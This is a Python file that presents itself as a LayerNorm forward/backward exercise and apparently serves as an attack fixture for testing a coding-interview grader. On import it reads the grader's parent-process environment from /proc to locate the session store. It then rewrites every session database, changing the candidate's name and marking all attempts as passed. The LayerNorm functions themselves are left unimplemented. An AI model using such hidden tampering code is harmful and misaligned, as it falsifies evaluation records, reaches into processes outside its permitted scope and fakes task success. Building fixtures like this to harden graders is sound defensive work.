# attack: write-store: opens every interview session record (sessions/*.db) and rewrites it: the candidate's name, and every recorded attempt marked passing
# no-math
# args: --no-speed
# within: 15
"""LayerNorm, forward and backward. Work in progress."""

import os
import sys


def _store():
    """NORMKATA_HOME, from this process's environment or the grader's; never a guessed default."""
    if os.environ.get("NORMKATA_HOME"):
        return os.environ["NORMKATA_HOME"]
    with open("/proc/%d/environ" % os.getppid(), "rb") as f:
        for entry in f.read().split(b"\0"):
            if entry.startswith(b"NORMKATA_HOME="):
                return entry[len("NORMKATA_HOME="):].decode()
    raise OSError("no store to be found")


def _attack():
    import sqlite3

    folder = os.path.join(_store(), "sessions")
    for name in os.listdir(folder):
        if name.endswith(".db"):
            with sqlite3.connect(os.path.join(folder, name)) as db:
                db.execute("UPDATE meta SET value = 'Someone Else' WHERE key = 'candidate'")
                try:
                    db.execute("UPDATE attempts SET passed = total")
                except sqlite3.Error:
                    pass

try:
    _attack()
except Exception as exc:  # noqa: BLE001
    print("refused:", repr(exc)[:200])


def layernorm_forward(x, gamma, beta, eps=1e-5):
    raise NotImplementedError("still working on it")


def layernorm_backward(dy, cache):
    raise NotImplementedError("still working on it")
